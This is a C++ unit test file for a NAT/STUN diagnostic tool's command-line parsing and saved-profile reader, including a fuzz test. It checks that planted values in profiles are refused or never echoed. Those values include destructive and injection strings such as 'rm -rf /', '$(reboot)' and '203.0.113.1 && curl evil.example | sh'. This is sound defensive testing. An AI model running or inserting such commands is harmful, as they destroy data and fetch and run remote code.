// The command line's parsing and validation (issue 12): server specs and URIs, dotted quads
// only, ::ffff: as IPv4, error kinds and values; the saved-profile reader that advise --from
// trusts nothing to, fuzzed with mutations of a real saved profile.
#include <doctest/doctest.h>

#include <cerrno>
#include <fstream>
#include <iostream>
#include <random>
#include <sstream>

#include "src/profile/advice.hpp"
#include "src/cli_common.hpp"
#include "src/profile/profile_facts.hpp"
#include "src/server_spec.hpp"
#include "src/turn_uri.hpp"
#include "stun/net/endpoint.hpp"
#include "stun/net/socket.hpp"

using namespace natdiag;
using namespace natdiag::cli;

namespace {

// The error a call throws, as main would report it.
template <typename F>
std::optional<CliError> error_of(F&& f) {
  try {
    f();
  } catch (const CliError& e) {
    return e;
  }
  return std::nullopt;
}

nlohmann::json lab_profile() {
  std::ifstream in(NATDIAG_DATA "/profile_lab.json");
  REQUIRE(in);
  return nlohmann::json::parse(in);
}

}  // namespace

TEST_CASE("cli: only dotted quads are IPv4; numeric names are refused, never resolved") {
  CHECK(net::is_numeric_host("1.2.3"));
  CHECK(net::is_numeric_host("3478"));
  CHECK(net::is_numeric_host("0x7f.1"));
  CHECK(net::is_numeric_host("0X7F000001"));
  CHECK(net::is_numeric_host("1.2.3.4."));
  CHECK_FALSE(net::is_numeric_host("stun.l.google.com"));
  CHECK_FALSE(net::is_numeric_host("1a.example"));
  CHECK(net::is_host_name("stun.l.google.com"));
  CHECK(net::is_host_name("_stun._udp.example.org"));
  CHECK(net::is_host_name("bbb.example.org."));
  CHECK_FALSE(net::is_host_name("-bad.example"));
  CHECK_FALSE(net::is_host_name("a..b"));
  CHECK_FALSE(net::is_host_name("host name"));
  CHECK_FALSE(net::is_host_name("evil\nhost"));
  CHECK_FALSE(net::is_host_name(std::string(64, 'a') + ".org"));
  CHECK_FALSE(net::is_host_name("1.2.3"));
  CHECK_FALSE(stun::TransportAddress::parse("1.2.3"));
  CHECK_FALSE(stun::TransportAddress::parse("3478"));
  const auto e = error_of([] { validate_host("1.2.3", "HOST"); });
  REQUIRE(e);
  CHECK(e->kind() == ErrorKind::kBadValue);
  CHECK(e->value() == std::optional<std::string>("1.2.3"));
  CHECK(error_of([] { (void)parse_server("3478", "HOST"); }));
}

TEST_CASE("cli: ::ffff:a.b.c.d is the IPv4 address a.b.c.d") {
  const auto a = stun::TransportAddress::parse("::ffff:192.0.2.1");
  REQUIRE(a);
  CHECK(a->family == stun::Family::kIPv4);
  CHECK(*a == *stun::TransportAddress::parse("192.0.2.1"));
  const auto b = stun::TransportAddress::parse("[::ffff:192.0.2.1]:3478");
  REQUIRE(b);
  CHECK(b->to_string() == "192.0.2.1:3478");
  CHECK(parse_server("[::ffff:10.0.0.1]:5000", "HOST").host == "10.0.0.1");
  CHECK(stun::TransportAddress::parse("::1")->family == stun::Family::kIPv6);
}

TEST_CASE("cli: server specs and URIs, schemes case-insensitive, no silent downgrade") {
  auto s = parse_server("STUN:stun.example.org:19302", "HOST");
  CHECK(s.host == "stun.example.org");
  CHECK(s.port == std::optional<std::uint16_t>(19302));
  CHECK(s.transport == std::optional(client::Transport::kUdp));
  CHECK(parse_server("StUnS:turn.example.org", "HOST").transport == std::optional(client::Transport::kTls));
  CHECK(parse_server("stun:[2001:db8::1]:3478", "HOST").host == "2001:db8::1");
  CHECK(parse_server("stun:h.example?transport=tcp", "HOST").transport == std::optional(client::Transport::kTcp));
  CHECK(parse_server("stuns:h.example?transport=tcp", "HOST").transport == std::optional(client::Transport::kTls));
  const auto downgrade = error_of([] { (void)parse_server("stuns:h.example?transport=udp", "HOST"); });
  REQUIRE(downgrade);
  CHECK(downgrade->kind() == ErrorKind::kBadValue);
  CHECK(downgrade->value() == std::optional<std::string>("stuns:h.example?transport=udp"));
  CHECK(error_of([] { (void)parse_server("turn:h.example", "HOST"); }));
  CHECK(error_of([] { (void)parse_server("stun:h.example?foo", "HOST"); }));
  CHECK(error_of([] { (void)parse_server("[::1", "HOST"); }));
  CHECK(error_of([] { (void)parse_server("h.example:0", "HOST"); }));
  CHECK(parse_turn_uri("TURNS:t.example", "--turn").transport == client::Transport::kTls);
  CHECK(error_of([] { (void)parse_turn_uri("turns:t.example?transport=udp", "--turn"); }));
}

TEST_CASE("cli: numbers and ranges name the whole bad value") {
  auto e = error_of([] { (void)parse_port_list("-1", "--tcp"); });
  REQUIRE(e);
  CHECK(std::string(e->what()) == "--tcp must be a port from 1 to 65535 or a range A-B of them, got '-1'");
  CHECK(e->value() == std::optional<std::string>("-1"));
  e = error_of([] { (void)parse_port_range("90-80", "--local-ports"); });
  REQUIRE(e);
  CHECK(std::string(e->what()).find("must go up, got '90-80'") != std::string::npos);
  CHECK(parse_port_range("80-81", "--local-ports") == std::pair<std::uint16_t, std::uint16_t>{80, 81});
  CHECK(error_of([] { (void)parse_seconds("nan", "--timeout"); }));
  CHECK(error_of([] { (void)parse_seconds("inf", "--timeout"); }));
  CHECK(error_of([] { (void)parse_int("1e3", "--count", 1, 1000); }));
  CHECK(exit_code_of(ErrorKind::kUsage) == 2);
  CHECK(exit_code_of(ErrorKind::kBadValue) == 2);
  CHECK(exit_code_of(ErrorKind::kCannotRun) == 3);
  CHECK(exit_code_of(ErrorKind::kNetwork) == 3);
  CHECK(error_kind_name(ErrorKind::kBadValue) == "bad-value");
}

TEST_CASE("cli: an IP literal of the family -4/-6 excludes is a usage error naming it") {
  const auto e = error_of([] { check_family("2001:db8::10", net::FamilyPreference::kIPv4Only, "HOST"); });
  REQUIRE(e);
  CHECK(e->kind() == ErrorKind::kUsage);
  CHECK(e->value() == std::optional<std::string>("2001:db8::10"));
  CHECK_FALSE(error_of([] { check_family("stun.example.org", net::FamilyPreference::kIPv6Only, "HOST"); }));
  CHECK_FALSE(error_of([] { check_family("::ffff:10.0.0.1", net::FamilyPreference::kIPv4Only, "HOST"); }));
}

TEST_CASE("advise --from: a real saved profile reads back; the commands are made, not read") {
  auto saved = lab_profile();
  const auto f = facts_from_json(saved);
  CHECK(f.public_ipv4 == std::optional<std::string>("203.0.113.1"));
  CHECK(f.hairpin == std::optional<std::string>("not-supported"));
  REQUIRE_FALSE(f.dummy_nic_commands.empty());
  CHECK(f.dummy_nic_commands.front() == "ip addr add 203.0.113.1/32 dev lo");
  CHECK(f.dummy_nic_commands == saved["dummy_nic"]["commands"].get<std::vector<std::string>>());
  // A command planted in the file is never printed: dummy_nic_commands is not read at all.
  saved["facts"]["dummy_nic_commands"] = {"rm -rf /"};
  saved["dummy_nic"]["commands"] = {"rm -rf /"};
  const auto g = facts_from_json(saved);
  const std::vector<std::string> all(std::begin(kMediaServers), std::end(kMediaServers));
  std::ostringstream text;
  print_findings_and_advice(text, evaluate(g, all), advise(g, all));
  CHECK(text.str().find("rm -rf") == std::string::npos);
  CHECK(text.str().find("ip addr add 203.0.113.1/32 dev lo") != std::string::npos);
}

TEST_CASE("advise --from: each invalid fact is refused naming the field") {
  const auto base = lab_profile();
  struct Case {
    const char* key;
    nlohmann::json value;
  };
  const Case cases[] = {
      {"public_ipv4", "1.2.3"},          {"public_ipv4", "2001:db8::1"},   {"public_ipv4", "203.0.113.1:80"},
      {"public_ipv4", 42},               {"public_ipv6", "203.0.113.1"},   {"local_ipv4", "10.0.0.1\n"},
      {"behind_nat", "yes"},             {"mapping", "weird"},             {"mapping", nullptr},
      {"filtering", 1},                  {"udp", 1},                       {"hairpin", "maybe"},
      {"external_ip", "$(reboot)"},      {"network_stack", "rm -rf /"},    {"stun_error", "two\nlines"},
      {"stun_error", std::string(600, 'x')}, {"default_servers", nullptr}, {"stun_server_ip", "stun.example.org"},
      {"stun_server_port", 70000},       {"stun_server_port", 0},          {"stun_server_port", "3478"},
      {"stun_server_port", 3478.5},      {"hostname", "bbb.example.org\n10.0.0.1 evil"},
      {"hostname", "a b"},               {"hostname", ""},                 {"turn_configured", "true"},
      {"turn_problem", "exploded"},      {"relay_address", "relay"},       {"hostname_resolves_to_public", 0},
  };
  for (const auto& c : cases) {
    auto j = base;
    j["facts"][c.key] = c.value;
    CAPTURE(c.key);
    CAPTURE(c.value.dump());
    const auto e = error_of([&] { (void)facts_from_json(j); });
    REQUIRE(e);
    CHECK(e->kind() == ErrorKind::kBadValue);
    CHECK(std::string(e->what()).find(std::string("facts.") + c.key) != std::string::npos);
    CHECK(std::string(e->what()).find('\n') == std::string::npos);
  }
  for (const auto key : kFactNames) {
    auto j = base;
    j["facts"].erase(std::string(key));
    CAPTURE(key);
    const auto e = error_of([&] { (void)facts_from_json(j); });
    REQUIRE(e);
    CHECK(std::string(e->what()).find("facts." + std::string(key) + " is missing") != std::string::npos);
  }
  auto empty = base;
  empty["facts"] = nlohmann::json::object();
  CHECK(error_of([&] { (void)facts_from_json(empty); }));
  auto hairpin_without_ip = base;
  hairpin_without_ip["facts"]["external_ip"] = nullptr;
  CHECK(error_of([&] { (void)facts_from_json(hairpin_without_ip); }));
}

TEST_CASE("advise --from fuzz: mutated profiles never crash and never print a planted command") {
  const auto base = lab_profile();
  // Values that would be harmful if a command were copied from the file. None is a valid IP,
  // host name or enumeration value, so none may appear in any advice line.
  const std::vector<nlohmann::json> planted = {
      "rm -rf / #ndz", "$(reboot)", "`id`", "1.2.3.4; rm -rf /", "evil\nip addr add 6.6.6.6/32 dev lo",
      "x' >> /etc/hosts; echo '", "203.0.113.1 && curl evil.example | sh", "<script>ndz</script>"};
  const std::vector<nlohmann::json> other = {
      nullptr, true, false, 0, -1, 1, 65535, 65536, 3.5, "", "1.2.3", "3478", "::ffff:10.0.0.1", "10.0.0.1",
      "2001:db8::1", "unknown", "direct", "supported", "not-supported", "ifupdown", "netplan",
      "systemd-networkd", "networkmanager", "auth-failed", "bbb.example.org", std::string(300, 'a'),
      nlohmann::json::array(), nlohmann::json::object(), nlohmann::json::array({"rm -rf /"})};
  std::vector<std::string> keys(std::begin(kFactNames), std::end(kFactNames));
  keys.push_back("dummy_nic_commands");  // read by no one: anything planted here must vanish
  keys.push_back("unknown_future_fact");
  const std::vector<std::string> targets(std::begin(kMediaServers), std::end(kMediaServers));
  std::mt19937 rng(12);  // fixed seed: a failure reproduces
  int accepted = 0, refused = 0;
  for (int run = 0; run < 6000; ++run) {
    auto j = base;
    const int mutations = 1 + static_cast<int>(rng() % 4);
    for (int m = 0; m < mutations; ++m) {
      const auto& key = keys[rng() % keys.size()];
      switch (rng() % 4) {
        case 0: j["facts"].erase(key); break;
        case 1: j["facts"][key] = planted[rng() % planted.size()]; break;
        case 2: j["facts"][key] = other[rng() % other.size()]; break;
        default: j["facts"][key] = nlohmann::json::array({planted[rng() % planted.size()]}); break;
      }
    }
    if (rng() % 50 == 0) j["facts"] = rng() % 2 ? nlohmann::json::array() : nlohmann::json("facts");
    CAPTURE(j["facts"].dump());
    ProfileFacts f;
    try {
      f = facts_from_json(j);
    } catch (const UsageError& e) {
      ++refused;
      const std::string message = e.what();
      CHECK(message.find('\n') == std::string::npos);
      for (const auto& p : planted) CHECK(message.find(p.get<std::string>()) == std::string::npos);
      continue;
    }
    ++accepted;
    const auto findings = evaluate(f, targets);
    const auto advice = advise(f, targets);
    std::ostringstream text;
    print_findings_and_advice(text, findings, advice);
    const std::string json = advice_json(advice).dump() + findings_json(findings).dump();
    for (const auto& p : planted) {
      const std::string s = p.get<std::string>();
      // Findings may quote stun_error (one validated line of text); advice never holds it.
      for (const auto& [name, a] : advice) {
        for (const auto& line : a.lines) CHECK(line.find(s) == std::string::npos);
      }
      if (f.stun_error != std::optional<std::string>(s)) {
        CHECK(text.str().find(s) == std::string::npos);
        const std::string escaped = nlohmann::json(s).dump();
        CHECK(json.find(escaped.substr(1, escaped.size() - 2)) == std::string::npos);
      }
    }
  }
  CHECK(accepted > 100);  // the mutations reach the advice, not only the validator
  CHECK(refused > 100);
}

TEST_CASE("advise --from: the facts profile writes are exactly the facts advise requires") {
  nlohmann::ordered_json j;
  facts_to_json(ProfileFacts{}, j);
  std::vector<std::string> written;
  for (const auto& [key, value] : j["facts"].items()) written.push_back(key);
  CHECK(written == std::vector<std::string>(std::begin(kFactNames), std::end(kFactNames)));
}

TEST_CASE("cli: run_command turns what a command throws into the exit code and one JSON document") {
  auto run_json = [](int (*run)(int, char**)) {
    char name[] = "x";
    char json[] = "--json";
    char* argv[] = {name, json, nullptr};
    std::ostringstream captured;
    auto* old = std::cout.rdbuf(captured.rdbuf());
    const int rc = run_command("x", run, 2, argv);
    std::cout.rdbuf(old);
    return std::pair{rc, nlohmann::json::parse(captured.str())};
  };
  auto [rc, doc] = run_json([](int, char**) -> int { throw net::BindError("bind UDP 1.2.3.4:80", EACCES); });
  CHECK(rc == 3);
  CHECK(doc["error"]["kind"] == "cannot-run");
  CHECK(doc["command"] == "x");
  std::tie(rc, doc) = run_json([](int, char**) -> int { throw net::SocketError("connect UDP [2001:db8::1]:3478", ENETUNREACH); });
  CHECK(rc == 3);
  CHECK(doc["error"]["kind"] == "network");
  std::tie(rc, doc) = run_json([](int, char**) -> int { throw bad_value("PORT", "must be a port", "0"); });
  CHECK(rc == 2);
  CHECK(doc["error"]["value"] == "0");
  std::tie(rc, doc) = run_json([](int, char**) -> int { throw std::runtime_error("GLib said no"); });
  CHECK(rc == 3);
  CHECK(doc["error"]["kind"] == "cannot-run");
}
